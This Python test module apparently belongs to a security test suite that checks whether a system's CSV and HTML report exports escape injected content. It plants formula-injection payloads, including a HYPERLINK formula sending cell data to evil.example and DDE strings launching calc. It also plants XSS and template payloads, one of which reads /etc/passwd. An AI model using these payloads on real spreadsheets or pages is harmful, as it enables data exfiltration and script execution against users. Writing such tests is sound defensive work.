"""What a spreadsheet would run and a browser would execute, in what is handed on."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from typing import Final

from attack.ground import Ground
from attack.suite import Group
from orchestration.gate.stopping import stop
from orchestration.gate.stops import Scope
from orchestration.report.cells import tables
from orchestration.report.make import make
from orchestration.report.model import Report
from orchestration.report.page import page
from orchestration.report.period import period
from tests.integration.gate.world import World

GROUP: Final = Group("exports")
RUN: Final = frozenset("=+-@|%\t\r\n")
"""What a cell must not begin with, in any width and after any space."""
PLANTED: Final[Mapping[str, str]] = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@ SUM(1+1)",
    "pipe": "|calc",
    "full-width": "\uff1dHYPERLINK(1)",
    "small-form": "\ufe66HYPERLINK(1)",
    "superscript": "\u207cHYPERLINK(1)",
    "after-a-tab": "\t=1+1",
    "after-a-line": "\r\n=1+1",
    "after-a-space": "  =1+1",
    "after-a-no-break-space": "\u00a0=1+1",
    "after-what-is-not-seen": "\u200b=1+1",
    "after-a-byte-order-mark": "\ufeff=1+1",
    "new-cell": 'x",=1+1,"',
    "new-row": 'x"\n=1+1,"',
}
NUMBER: Final = re.compile(r"-?\d+(\.\d+)?")


def _reported(ground: Ground, text: str) -> Report:
    """A report of a period in which somebody was stopped, and a proposal made, in those words."""
    world: World = ground.world()
    batch_id, actions = world.propose_all()
    with world.gate() as gate:
        gate.decide(batch_id, world.now)
    world.edit("proposal", {"action": actions[0]}, agent=text, action_type=text, entity_id=text)
    world.edit("batch", {"batch_id": batch_id}, agent=text)
    for row in world.rows("decision"):
        reasons = [{"code": text, "subject": text, "detail": text}]
        world.edit("decision", {"decision_id": row["decision_id"]}, policies=[text], reasons=reasons)
    stop(world.store, Scope.agent(text), text, operator=text, now=world.now)
    now = datetime.now(UTC) + timedelta(minutes=1)
    since, until = (world.now - timedelta(days=1)).isoformat(), now.isoformat()
    return make(world.store, world.settings, period(since, until, "UTC", now), None, now, most=100)


def _cells(text: str) -> Callable[[Ground], str]:
    def run(ground: Ground) -> str:
        told, planted = [], 0
        for name, content in tables(_reported(ground, text)).items():
            first, *others = csv.reader(io.StringIO(content))
            planted += sum("1+1" in cell or "calc" in cell or "HYPER" in cell for row in others for cell in row)
            told += [name for row in others if len(row) != len(first)]
            told += [name for row in others for cell in row if _runs(cell)]
        if not planted:
            return "otherwise: it stands nowhere"
        return f"runs: {', '.join(sorted(set(told)))}" if told else "text"

    return run


def _runs(cell: str) -> bool:
    """Whether a spreadsheet might take a cell for more than text; a negative number is one."""
    seen = "".join(one for one in unicodedata.normalize("NFKC", cell) if unicodedata.category(one) != "Cf")
    return bool(seen) and (seen[0] in RUN or seen.lstrip()[:1] in RUN) and not NUMBER.fullmatch(cell)


for _name, _text in PLANTED.items():
    GROUP.add(
        f"csv-{_name}",
        f"have a report's CSV begin a cell with {ascii(_text)[:50]}",
        "text",
        _cells(_text),
        quick=_name == "full-width",
    )

MARKUP: Final[Mapping[str, str]] = {
    "script": "<script>alert('1+1')</script>",
    "attribute": "\"' onmouseover='alert(1)' x='",
    "image": "<img src=x onerror=alert(1)>",
    "link": "javascript:alert(1)",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}",
    "end-of-style": "</style><script>alert(1)</script>",
    "end-of-picture": "</text></svg><svg onload=alert(1)>",
}
EXECUTED: Final = re.compile(
    r"<script|<img|<svg[^>]*onload|<[^>]+\son\w+=|href=.?javascript:|>49<|root:x", re.IGNORECASE
)


def _page(text: str) -> Callable[[Ground], str]:
    def run(ground: Ground) -> str:
        before = set(EXECUTED.findall(page(_reported(ground, "plain"))))
        made = page(_reported_again(ground, text))
        found = [one for one in EXECUTED.findall(made) if one not in before]
        return f"runs: {found[0]}" if found else "text"

    return run


def _reported_again(ground: Ground, text: str) -> Report:
    with ground.grounds.fresh() as other:
        return _reported(other, text)


for _name, _text in MARKUP.items():
    GROUP.add(f"page-{_name}", f"have a report's page run {_text}", "text", _page(_text))
